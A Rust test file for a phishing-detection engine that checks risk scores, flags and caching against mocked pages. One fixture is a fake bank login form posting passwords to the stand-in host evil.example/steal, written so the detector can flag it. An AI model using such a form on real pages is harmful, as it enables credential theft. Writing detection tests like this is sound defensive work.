use chrono::{Duration as ChronoDuration, Utc};
use httpmock::prelude::*;
use phishguard::config::AppConfig;
use phishguard::core::engine::Engine;
use phishguard::core::verdict::VerdictBand;

fn test_config(server: &MockServer) -> AppConfig {
    let mut cfg = AppConfig::default();
    cfg.allow_private_targets = true;
    cfg.timeout_ms = 2_000;
    cfg.tls_timeout_ms = 1_000;
    cfg.rdap_timeout_ms = 1_000;
    cfg.content_timeout_ms = 2_000;
    cfg.reputation_timeout_ms = 1_000;
    cfg.cache_ttl_seconds = 60;
    cfg.rdap_base_url = format!("{}/rdap/domain", server.base_url());
    cfg
}

#[tokio::test]
async fn credential_page_on_old_domain_is_high_risk() {
    let server = MockServer::start();
    let _rdap = server.mock(|when, then| {
        when.method(GET).path("/rdap/domain/127.0.0.1");
        then.status(200).json_body(serde_json::json!({
            "events": [
                { "eventAction": "registration", "eventDate": "2015-01-01T00:00:00Z" }
            ]
        }));
    });
    let _page = server.mock(|when, then| {
        when.method(GET).path("/login");
        then.status(200).body(
            r#"<html><title>Bank Login</title>
            <form action="https://evil.example/steal">
            <input type="password" name="pw"></form></html>"#,
        );
    });

    let engine = Engine::new(test_config(&server)).unwrap();
    let url = format!("http://127.0.0.1:{}/login", server.port());
    let verdict = engine.check_url(&url, false).await.unwrap();

    // heuristic 35 (ip + digits + keyword), tls 20, content 65 (password +
    // off-site action + brand title), +20 password/external combination
    assert_eq!(verdict.risk_score, 100);
    assert_eq!(verdict.band, VerdictBand::HighRisk);
    assert_eq!(verdict.per_signal_scores["heuristic"], 35);
    assert_eq!(verdict.per_signal_scores["tls"], 20);
    assert_eq!(verdict.per_signal_scores["content"], 65);
    assert_eq!(verdict.per_signal_scores["domain_age"], 0);
    for flag in [
        "IP_ADDRESS",
        "NO_HTTPS",
        "PASSWORD_FORM",
        "EXTERNAL_FORM_ACTION",
        "BRAND_MISMATCH",
    ] {
        assert!(verdict.flags.iter().any(|f| f == flag), "missing {flag}");
    }
    assert!(verdict.summary.starts_with("Critical"));
}

#[tokio::test]
async fn young_domain_with_login_form_is_flagged() {
    let server = MockServer::start();
    let created = (Utc::now() - ChronoDuration::days(183)).to_rfc3339();
    let _rdap = server.mock(|when, then| {
        when.method(GET).path("/rdap/domain/127.0.0.1");
        then.status(200).json_body(serde_json::json!({
            "events": [ { "eventAction": "registration", "eventDate": created } ]
        }));
    });
    let _page = server.mock(|when, then| {
        when.method(GET).path("/portal");
        then.status(200)
            .body(r#"<form action="/session"><input type="password"></form>"#);
    });

    let engine = Engine::new(test_config(&server)).unwrap();
    let url = format!("http://127.0.0.1:{}/portal", server.port());
    let verdict = engine.check_url(&url, false).await.unwrap();

    // heuristic 30, tls 20, domain age 20, content 5, +10 new-domain login
    assert_eq!(verdict.risk_score, 85);
    assert_eq!(verdict.band, VerdictBand::HighRisk);
    assert_eq!(verdict.per_signal_scores["domain_age"], 20);
    assert!(verdict.flags.iter().any(|f| f == "NEW_DOMAIN"));
    assert!(verdict.flags.iter().any(|f| f == "NEW_DOMAIN_WITH_LOGIN"));
}

#[tokio::test]
async fn verdicts_are_served_from_cache() {
    let server = MockServer::start();
    let _rdap = server.mock(|when, then| {
        when.method(GET).path("/rdap/domain/127.0.0.1");
        then.status(200).json_body(serde_json::json!({
            "events": [
                { "eventAction": "registration", "eventDate": "2015-01-01T00:00:00Z" }
            ]
        }));
    });
    let page = server.mock(|when, then| {
        when.method(GET).path("/");
        then.status(200).body("<html><p>hello</p></html>");
    });

    let engine = Engine::new(test_config(&server)).unwrap();
    let url = format!("http://127.0.0.1:{}/", server.port());

    let first = engine.check_url(&url, true).await.unwrap();
    let second = engine.check_url(&url, true).await.unwrap();
    assert_eq!(first, second);
    assert_eq!(page.hits(), 1);
    assert_eq!(engine.cached_entries(), 1);
}

#[tokio::test]
async fn disk_cache_survives_engine_restarts() {
    let server = MockServer::start();
    let _rdap = server.mock(|when, then| {
        when.method(GET).path("/rdap/domain/127.0.0.1");
        then.status(200).json_body(serde_json::json!({
            "events": [
                { "eventAction": "registration", "eventDate": "2015-01-01T00:00:00Z" }
            ]
        }));
    });
    let page = server.mock(|when, then| {
        when.method(GET).path("/");
        then.status(200).body("<html><p>hello</p></html>");
    });

    let cache_path = std::env::temp_dir().join(format!(
        "phishguard-verdicts-{}.json",
        std::process::id()
    ));
    let mut cfg = test_config(&server);
    cfg.disk_cache_enabled = true;
    cfg.disk_cache_path = cache_path.to_string_lossy().into_owned();
    let url = format!("http://127.0.0.1:{}/", server.port());

    let first = {
        let engine = Engine::new(cfg.clone()).unwrap();
        engine.check_url(&url, true).await.unwrap()
    };
    assert_eq!(page.hits(), 1);

    // a fresh engine has an empty memory cache but reads the same file
    let engine = Engine::new(cfg).unwrap();
    let second = engine.check_url(&url, true).await.unwrap();
    assert_eq!(first, second);
    assert_eq!(page.hits(), 1);

    let _ = std::fs::remove_file(cache_path);
}

#[tokio::test]
async fn hosted_platform_skips_domain_age_entirely() {
    // no mocks: every network probe is free to fail, the verdict must still
    // come out with all slots filled
    let server = MockServer::start();
    let mut cfg = test_config(&server);
    cfg.timeout_ms = 1_000;
    let engine = Engine::new(cfg).unwrap();

    let verdict = engine
        .check_url("https://tokopedia.vercel.app", false)
        .await
        .unwrap();

    assert_eq!(verdict.per_signal_scores.len(), 6);
    assert_eq!(verdict.per_signal_scores["domain_age"], 0);
    assert_eq!(verdict.per_signal_scores["typosquat"], 50);
    for flag in ["HOSTED_PLATFORM", "SKIPPED", "EXACT_SUBDOMAIN"] {
        assert!(verdict.flags.iter().any(|f| f == flag), "missing {flag}");
    }
    // exact brand subdomain (50) plus the hosted-platform bonus (10)
    assert!(verdict.risk_score >= 60);
    assert!(verdict.band >= VerdictBand::Suspicious);
}
